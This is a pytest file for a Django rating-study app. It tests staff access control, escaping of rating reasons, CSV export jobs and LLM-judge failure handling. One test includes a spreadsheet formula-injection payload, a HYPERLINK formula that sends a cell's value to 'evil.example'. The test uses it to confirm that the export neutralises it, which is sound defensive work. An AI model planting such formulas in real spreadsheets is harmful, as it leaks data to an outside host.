"""Staff pages: studies, the report, background jobs with progress and downloads."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from annotation.models import Job, Rating, Study
from legalsim.roles import Role
from tests.users import person

pytestmark = pytest.mark.django_db


@pytest.fixture
def study(django_user_model) -> Study:
    study = Study.objects.create(
        name="pilot", rubric_id="legalworld16", raters_per_trajectory=1, trajectory_ids=["t1", "t2"]
    )
    rater = person("ann", Role.RATER, password="pw-123456")
    study.raters.set([rater])
    rows = [("t1", "ann", "human", 9, "<b>t1</b> reason"), ("t2", "ann", "human", 5, "<b>t2</b> reason")]
    rows += [("t1", "judge-x", "llm", 7, "judge"), ("t2", "judge-x", "llm", 7, "judge")]
    rows += [("t1", "outsider", "human", 0, "not in this study")]
    for trajectory, rater, source, score, reason in rows:
        Rating.objects.create(
            rubric_id="legalworld16",
            trajectory_id=trajectory,
            item="FIT.process_coherence",
            rater=rater,
            source=source,
            score=score,
            reason=reason,
        )
    return study


def staff_urls(study: Study, job: Job) -> list[tuple[str, str]]:
    return [
        ("get", reverse("annotation:study_list")),
        ("get", reverse("annotation:study_dashboard", args=[study.pk])),
        ("get", reverse("annotation:study_jobs", args=[study.pk])),
        ("get", reverse("annotation:study_report", args=[study.pk])),
        ("post", reverse("annotation:study_judge", args=[study.pk])),
        ("post", reverse("annotation:study_export", args=[study.pk])),
        ("get", reverse("annotation:job", args=[job.pk])),
        ("get", reverse("annotation:job_progress", args=[job.pk])),
        ("get", reverse("annotation:job_download", args=[job.pk])),
    ]


def test_raters_get_403_and_strangers_the_login_page(client, study):
    job = Job.objects.create(
        kind=Job.Kind.RATINGS_EXPORT, rubric_id="legalworld16", study=study, params={"layout": "wide"}
    )
    for method, url in staff_urls(study, job):
        assert getattr(client, method)(url).status_code == 302, url
    client.login(username="ann", password="pw-123456")
    for method, url in staff_urls(study, job):
        assert getattr(client, method)(url).status_code == 403, url
    assert Job.objects.count() == 1, "a rater's POST started nothing"


@pytest.fixture
def staff(client, django_user_model, tasks_in_process):
    person("boss", Role.INSTRUCTOR, password="pw-123456")
    client.login(username="boss", password="pw-123456")
    return client


def test_the_report_page_keeps_to_the_study_and_escapes_reasons(staff, study):
    page = staff.get(reverse("annotation:study_report", args=[study.pk])).content.decode()
    overall = page[page.index("<h2>Overall</h2>") : page.index("<h2>Distributions</h2>")]
    assert ">2<" in overall and "0.00" in overall, "two pairs (9-7, 5-7); the outsider's 0 is not in the study"
    assert "&lt;b&gt;t1&lt;/b&gt; reason" in page and "<b>t1</b>" not in page
    assert "Scores ≥ 9: 1 rating (50.0 %)" in page and "Scores ≤ 6: 1 rating (50.0 %)" in page
    assert "not in this study" not in page
    notes = page[page.index("<h2>Notes</h2>") :]
    assert "Every item (except First-instance trial (FIT) · Process coherence); Legal consultation (LC)" in notes


def test_a_ratings_export_runs_as_a_job_and_downloads(staff, study, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    page = staff.post(
        reverse("annotation:study_export", args=[study.pk]), {"kind": "ratings_export", "layout": "long"}, follow=True
    ).content.decode()
    job = Job.objects.get()
    assert job.status == Job.Status.DONE and job.done == job.total == 4 and job.result == {"rows": 4}
    assert 'value="100"' in page and "Download pilot-ratings-long.csv" in page and "hx-trigger" not in page
    response = staff.get(reverse("annotation:job_download", args=[job.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="pilot-ratings-long.csv"'
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {(row["rater"], row["score"]) for row in rows} == {("ann", "9"), ("ann", "5"), ("judge-x", "7")}


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_a_ratings_export_job_writes_a_formula_reason_as_text(staff, study, settings, tmp_path, layout):
    settings.MEDIA_ROOT = tmp_path
    reason = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    Rating.objects.filter(rater="ann", trajectory_id="t1").update(reason=reason)
    staff.post(reverse("annotation:study_export", args=[study.pk]), {"kind": "ratings_export", "layout": layout})
    response = staff.get(reverse("annotation:job_download", args=[Job.objects.get().pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + reason in cells and reason not in cells


def test_a_running_job_keeps_polling_and_a_bad_request_says_why(staff, study):
    job = Job.objects.create(
        kind=Job.Kind.JUDGE, rubric_id="legalworld16", study=study, status=Job.Status.RUNNING, done=1, total=4
    )
    fragment = staff.get(reverse("annotation:job_progress", args=[job.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in fragment and 'value="25"' in fragment and "1 / 4" in fragment
    assert 'hx-trigger="every 2s"' in staff.get(reverse("annotation:study_dashboard", args=[study.pk])).content.decode()
    assert staff.get(reverse("annotation:job_download", args=[job.pk])).status_code == 404
    page = staff.post(
        reverse("annotation:study_export", args=[study.pk]),
        {"kind": "ratings_export", "layout": "sideways"},
        follow=True,
    ).content.decode()
    assert "layout must be one of long, wide" in page


def test_a_judge_run_that_cannot_reach_the_server_fails_visibly(staff, study, openai_settings, llm_server, tmp_path):
    from annotation.models import Trajectory

    Trajectory.objects.create(id="t1", case_id="c", procedure="civil", language="en", title="T", stages=[])
    llm_server.fail_next(("status", 500), ("status", 500), ("status", 500))
    page = staff.post(
        reverse("annotation:study_judge", args=[study.pk]), {"model": "judge-y"}, follow=True
    ).content.decode()
    job = Job.objects.get()
    assert job.status == Job.Status.FAILED and "LLMError" in job.error
    assert "Failed" in page and "LLMError" in page
    assert not Rating.objects.filter(rater="judge-y").exists()
